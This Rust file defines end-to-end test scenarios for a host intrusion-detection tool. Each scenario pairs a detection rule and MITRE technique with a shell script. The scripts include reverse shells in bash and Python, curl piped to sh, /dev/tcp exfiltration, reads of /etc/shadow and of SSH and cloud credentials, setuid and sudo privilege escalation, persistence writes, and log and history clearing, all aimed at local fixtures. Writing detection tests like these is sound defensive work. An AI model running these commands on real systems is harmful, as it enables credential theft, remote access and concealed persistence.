//! Attack scenarios for each built-in detection and benign administration sessions, shared by
//! the detection e2e test and `cargo xtask bench detect`. Each runs as a real login session on
//! the real kernel; fixtures (an HTTP server to download from, listeners to connect to, a
//! setuid binary, a service-account token) are real too.

use std::{
    io::{Read, Write},
    net::TcpListener,
    path::{Path, PathBuf},
    process::Command,
    time::Duration,
};

use crate::USER;

/// One attack: the script a session runs, and the rule that must catch it.
pub struct Scenario {
    pub name: String,
    pub script: String,
    pub rule: &'static str,
    pub technique: &'static str,
}

/// What the scenarios need outside their sessions; removed again on drop.
pub struct Fixtures {
    pub dir: PathBuf,
    pub home: PathBuf,
    pub suid: PathBuf,
    /// A setuid-root copy of the Python interpreter (a process that makes itself root).
    pub suid_python: PathBuf,
    /// A copy of cat with CAP_DAC_READ_SEARCH, and of Python with CAP_SETUID (file
    /// capabilities, set with setcap).
    pub cap_reader: PathBuf,
    pub cap_python: PathBuf,
    pub web_port: u16,
    pub sink_port: u16,
    pub shell_port: u16,
    pub outbound_ip: String,
    made_token: bool,
}

const TOKEN_DIR: &str = "/run/secrets/kubernetes.io/serviceaccount";

/// A tiny HTTP server: every request gets `body`.
fn serve(body: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
    std::thread::spawn(move || {
        for mut conn in listener.incoming().flatten() {
            let mut buf = [0u8; 4096];
            let _ = conn.read(&mut buf);
            let _ = write!(
                conn,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

/// A listener that, like an attacker's, sends `exit` to every shell that connects (after a
/// moment, so the shell is seen with its streams on the socket).
fn attacker() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
    std::thread::spawn(move || {
        for mut conn in listener.incoming().flatten() {
            std::thread::spawn(move || {
                std::thread::sleep(Duration::from_millis(800));
                let _ = conn.write_all(b"exit\n");
                let mut sink = Vec::new();
                let _ = conn.read_to_end(&mut sink);
            });
        }
    });
    port
}

/// A non-loopback address of this host (where "outbound" connections can go in a test).
fn outbound_address() -> String {
    let s = std::net::UdpSocket::bind("0.0.0.0:0").expect("bind");
    s.connect("192.0.2.1:9").expect("route");
    s.local_addr()
        .map(|a| a.ip().to_string())
        .unwrap_or_else(|_| "127.0.0.1".into())
}

impl Fixtures {
    pub fn start(dir: &Path) -> Fixtures {
        let home = dir.join("home");
        std::fs::create_dir_all(&home).expect("home");
        let made_token = !Path::new(TOKEN_DIR).join("token").exists();
        if made_token {
            std::fs::create_dir_all(TOKEN_DIR).expect("token dir");
            std::fs::write(Path::new(TOKEN_DIR).join("token"), "eyJhbGciOi.test.token")
                .expect("token");
        }
        let suid = dir.join("suid-tool");
        std::fs::copy("/usr/bin/id", &suid).expect("copy id");
        let suid_python = dir.join("suid-py");
        let python = std::fs::canonicalize("/usr/bin/python3").expect("/usr/bin/python3");
        std::fs::copy(python, &suid_python).expect("copy python3");
        for (mode, path) in [
            ("4755", &suid),
            ("4755", &suid_python),
            ("755", &dir.to_path_buf()),
        ] {
            Command::new("chmod")
                .arg(mode)
                .arg(path)
                .status()
                .expect("chmod");
        }
        let cap_reader = dir.join("cap-reader");
        std::fs::copy("/usr/bin/cat", &cap_reader).expect("copy cat");
        let cap_python = dir.join("cap-py");
        std::fs::copy(
            std::fs::canonicalize("/usr/bin/python3").expect("python3"),
            &cap_python,
        )
        .expect("copy python3");
        for (caps, path) in [
            ("cap_dac_read_search+ep", &cap_reader),
            ("cap_setuid+ep", &cap_python),
        ] {
            let ok = Command::new("setcap")
                .arg(caps)
                .arg(path)
                .status()
                .is_ok_and(|s| s.success());
            assert!(ok, "setcap {caps} (Debian: libcap2-bin)");
        }
        let sink = TcpListener::bind("0.0.0.0:0").expect("bind");
        let sink_port = sink.local_addr().map(|a| a.port()).unwrap_or(0);
        std::thread::spawn(move || for _c in sink.incoming() {});
        Fixtures {
            dir: dir.to_path_buf(),
            home,
            suid,
            suid_python,
            cap_reader,
            cap_python,
            web_port: serve("#!/bin/sh\necho downloaded-and-run\n"),
            sink_port,
            shell_port: attacker(),
            outbound_ip: outbound_address(),
            made_token,
        }
    }

    /// Every built-in detection's scenarios; `variants` > 1 adds other ways of doing the same.
    pub fn attacks(&self, variants: bool) -> Vec<Scenario> {
        let (web, sink, shell, ip) = (
            self.web_port,
            self.sink_port,
            self.shell_port,
            &self.outbound_ip,
        );
        let suid = self.suid.display();
        let suid_py = self.suid_python.display();
        let cap_reader = self.cap_reader.display();
        let cap_py = self.cap_python.display();
        let mut all = vec![
            s("shadow", "cat /etc/shadow > /dev/null", "credential-store-read", "T1003.008"),
            s("ssh key", "mkdir -p ~/.ssh && echo KEY > ~/.ssh/id_ed25519 && cat ~/.ssh/id_ed25519 > /dev/null", "ssh-private-key-read", "T1552.004"),
            s("cloud", "mkdir -p ~/.aws && echo k > ~/.aws/credentials && cat ~/.aws/credentials > /dev/null", "cloud-credentials-read", "T1552.001"),
            s("sa token", "cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null", "service-account-token-read", "T1528"),
            s("exfil", &format!("head -c 60000000 /dev/zero > /dev/null; exec 3<>/dev/tcp/{ip}/{sink}; sleep 0.2"), "bulk-read-then-outbound", "T1041"),
            s("sudo shell", &format!("su {USER} -s /bin/sh -c 'sudo -n -s /bin/true'"), "sudo-root-shell", "T1548.003"),
            s("setuid", &format!("su {USER} -s /bin/sh -c '{suid}'"), "unexpected-setuid-root", "T1548.001"),
            s("setuid(0)", &format!("su {USER} -s /bin/sh -c '{suid_py} -c \"import os; os.setuid(0)\"'"), "setuid-syscall-to-root", "T1548.001"),
            s("file capability", &format!("su {USER} -s /bin/sh -c '{cap_reader} /etc/hostname > /dev/null'"), "unexpected-capability-gain", "T1548"),
            s("crontab", &format!("crontab -u {USER} /dev/null"), "crontab-modified", "T1053.003"),
            s("systemd", "touch /etc/systemd/system/vigil-e2e-test.service; rm -f /etc/systemd/system/vigil-e2e-test.service", "systemd-unit-written", "T1543.002"),
            s("authorized_keys", "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", "authorized-keys-modified", "T1098.004"),
            s("bashrc", "echo 'alias ls=evil' >> ~/.bashrc", "shell-startup-modified", "T1546.004"),
            s("history", "echo old > ~/.bash_history; rm -f ~/.bash_history", "shell-history-cleared", "T1070.003"),
            s("logs", "echo x >> /var/log/vigil-e2e-test.log; truncate -s 0 /var/log/vigil-e2e-test.log; rm -f /var/log/vigil-e2e-test.log", "logs-tampered", "T1070.002"),
            s("stop monitor", "pkill -0 -x vigil; true", "monitoring-stopped", "T1562.001"),
            s("curl | sh", &format!("curl -s http://127.0.0.1:{web}/x.sh | sh > /dev/null"), "download-piped-to-shell", "T1059.004"),
            s("download, run", &format!("curl -s -o ~/x.sh http://127.0.0.1:{web}/x.sh && chmod +x ~/x.sh && ~/x.sh > /dev/null"), "downloaded-file-executed", "T1105"),
            s("reverse shell", &format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{shell} 0>&1'"), "reverse-shell", "T1059.004"),
            s("process memory", "dd if=/proc/1/mem of=/dev/null bs=1 count=1 2>/dev/null; true", "process-memory-access", "T1003.007"),
        ];
        if variants {
            all.extend([
                s("shadow via grep", "grep -c root /etc/shadow > /dev/null", "credential-store-read", "T1003.008"),
                s("shadow backup", "cp /etc/shadow /tmp/.s 2>/dev/null; rm -f /tmp/.s; cat /etc/gshadow > /dev/null", "credential-store-read", "T1003.008"),
                s("host key", "cat /etc/ssh/ssh_host_ed25519_key > /dev/null 2>&1 || cat /etc/ssh/ssh_host_rsa_key > /dev/null", "ssh-private-key-read", "T1552.004"),
                s("kubeconfig", "mkdir -p ~/.kube && echo k > ~/.kube/config && base64 ~/.kube/config > /dev/null", "cloud-credentials-read", "T1552.001"),
                s("token via tar", "tar cf /tmp/vigil-e2e.tar /run/secrets/kubernetes.io/serviceaccount/token 2>/dev/null; rm -f /tmp/vigil-e2e.tar", "service-account-token-read", "T1528"),
                s("exfil after key", &format!("mkdir -p ~/.ssh && echo K > ~/.ssh/id_rsa && cat ~/.ssh/id_rsa > /dev/null; exec 3<>/dev/tcp/{ip}/{sink}; sleep 0.2"), "bulk-read-then-outbound", "T1041"),
                s("sudo -i", &format!("su {USER} -s /bin/sh -c 'sudo -n -i true'"), "sudo-root-shell", "T1548.003"),
                s("sudo su", &format!("su {USER} -s /bin/sh -c 'sudo -n su -c true'"), "sudo-root-shell", "T1548.003"),
                s("setuid shell-ish", &format!("su {USER} -s /bin/sh -c '{suid} -u'"), "unexpected-setuid-root", "T1548.001"),
                s("setresuid(0)", &format!("su {USER} -s /bin/sh -c '{suid_py} -c \"import os; os.setresuid(0, 0, 0)\"'"), "setuid-syscall-to-root", "T1548.001"),
                s("cap_setuid python", &format!("su {USER} -s /bin/sh -c '{cap_py} -c \"import os; os.setuid(0)\"'"), "unexpected-capability-gain", "T1548"),
                s("cron.d", "echo '* * * * * root true' > /etc/cron.d/vigil-e2e-test; rm -f /etc/cron.d/vigil-e2e-test", "crontab-modified", "T1053.003"),
                s("user unit", "mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/x.service", "systemd-unit-written", "T1543.002"),
                s("authorized_keys via tee", "mkdir -p ~/.ssh && echo 'ssh-rsa AAAA y' | tee -a ~/.ssh/authorized_keys > /dev/null", "authorized-keys-modified", "T1098.004"),
                s("profile", "echo 'export X=1' >> ~/.profile", "shell-startup-modified", "T1546.004"),
                s("history truncated", "echo old > ~/.bash_history; : > ~/.bash_history", "shell-history-cleared", "T1070.003"),
                s("log rm", "touch /var/log/vigil-e2e-old.log; rm -f /var/log/vigil-e2e-old.log", "logs-tampered", "T1070.002"),
                s("stop auditd", "systemctl stop auditd 2>/dev/null; true", "monitoring-stopped", "T1562.001"),
                s("wget | bash", &format!("curl -fsSL http://127.0.0.1:{web}/i | bash > /dev/null"), "download-piped-to-shell", "T1059.004"),
                s("download to tmp, run", &format!("curl -s -o /tmp/vigil-e2e-dl http://127.0.0.1:{web}/y && sh /tmp/vigil-e2e-dl > /dev/null; rm -f /tmp/vigil-e2e-dl"), "downloaded-file-executed", "T1105"),
                s("python reverse shell", &format!("python3 -c 'import socket,os;s=socket.create_connection((\"127.0.0.1\",{shell}));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv(\"/bin/sh\",[\"sh\"])'"), "reverse-shell", "T1059.004"),
                s("gdb attach", "gdb -p 1 -batch -ex detach > /dev/null 2>&1; true", "process-memory-access", "T1003.007"),
            ]);
        }
        all
    }

    /// Benign administration sessions: `count` sessions, each a few everyday tasks (chosen
    /// deterministically, so every run is the same).
    pub fn benign(&self, count: usize) -> Vec<String> {
        let tasks = [
            "ls -la /etc > /dev/null",
            "df -h > /dev/null",
            "ps aux > /dev/null",
            "uptime > /dev/null; id > /dev/null; whoami > /dev/null",
            "cat /etc/hostname /etc/os-release > /dev/null",
            "grep -c root /etc/passwd > /dev/null",
            "du -sh /usr/share/doc > /dev/null 2>&1",
            "tail -n 20 /var/log/dpkg.log > /dev/null 2>&1",
            "find /etc -maxdepth 1 -name '*.conf' > /dev/null",
            "ip addr > /dev/null 2>&1; ss -tln > /dev/null 2>&1",
            "free -m > /dev/null; cat /proc/meminfo > /dev/null",
            "systemctl status cron --no-pager > /dev/null 2>&1; true",
            "journalctl -n 50 --no-pager > /dev/null 2>&1; true",
            "crontab -l > /dev/null 2>&1; true",
            "cat /etc/ssh/sshd_config > /dev/null",
            "sudo -n -u root systemctl is-active cron > /dev/null 2>&1; true",
            "tar czf /tmp/vigil-e2e-etc-backup.tgz -C /etc hostname hosts 2>/dev/null; rm -f /tmp/vigil-e2e-etc-backup.tgz",
            "mkdir -p /tmp/vigil-e2e-work && cp /etc/hosts /tmp/vigil-e2e-work/ && rm -rf /tmp/vigil-e2e-work",
            "cat ~/.bashrc > /dev/null 2>&1; cat ~/.ssh/authorized_keys > /dev/null 2>&1; true",
            "ls -la ~/.ssh > /dev/null 2>&1; true",
            "dpkg -l > /dev/null 2>&1",
            "sort /etc/passwd | head -n 3 > /dev/null",
            "env > /dev/null; date > /dev/null; hostname > /dev/null",
            "sha256sum /etc/hosts > /dev/null",
            "curl -s http://127.0.0.1:{web}/health > /dev/null; true",
            "openssl version > /dev/null 2>&1; true",
            "w > /dev/null 2>&1; last -n 5 > /dev/null 2>&1; true",
            "echo 'note' >> /tmp/vigil-e2e-notes; rm -f /tmp/vigil-e2e-notes",
            "less -F /etc/hosts < /dev/null > /dev/null 2>&1; true",
            "python3 -c 'print(1)' > /dev/null",
        ];
        // A small linear congruential generator: deterministic, and enough to mix tasks.
        let mut state: u64 = 0x5eed;
        let mut next = || {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (state >> 33) as usize
        };
        (0..count)
            .map(|_| {
                let n = 3 + next() % 4;
                (0..n)
                    .map(|_| {
                        tasks[next() % tasks.len()].replace("{web}", &self.web_port.to_string())
                    })
                    .collect::<Vec<_>>()
                    .join("; ")
            })
            .collect()
    }
}

impl Drop for Fixtures {
    fn drop(&mut self) {
        if self.made_token {
            let _ = std::fs::remove_dir_all("/run/secrets");
        }
        let _ = &self.dir;
    }
}

fn s(name: &str, script: &str, rule: &'static str, technique: &'static str) -> Scenario {
    Scenario {
        name: name.to_string(),
        script: script.to_string(),
        rule,
        technique,
    }
}
